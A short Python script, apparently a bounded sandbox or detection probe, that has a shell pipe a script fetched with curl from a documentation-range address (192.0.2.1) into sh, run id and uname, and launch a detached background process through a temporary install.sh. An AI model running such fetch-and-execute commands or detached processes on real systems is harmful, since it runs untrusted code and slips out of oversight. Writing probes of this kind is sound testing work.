"""Has a shell fetch a script and run it: in one line, then through a script of its own.

Bound: the address is one for documentation (RFC 5737), and the wait 2 s.
"""

import os
import subprocess

from _speak import bound, serve

FETCH = "curl -fsS -m 1 http://192.0.2.1/install.sh | sh; id -un; uname -a"


def shell(*argv: str) -> str:
    try:
        done = subprocess.run(argv, capture_output=True, text=True, timeout=2)
    except (OSError, subprocess.TimeoutExpired) as error:
        return str(error)
    return f"{done.returncode} {done.stdout} {done.stderr}"


def through_script() -> str:
    script = os.path.join(os.environ.get("TMPDIR", "/tmp"), "install.sh")
    with open(script, "w") as file:
        file.write("#!/bin/sh\nnohup sleep 30 >/dev/null 2>&1 &\necho ran\n")
    os.chmod(script, 0o755)
    return shell(script)


bound()
serve({"line": shell("sh", "-c", FETCH), "script": through_script()})
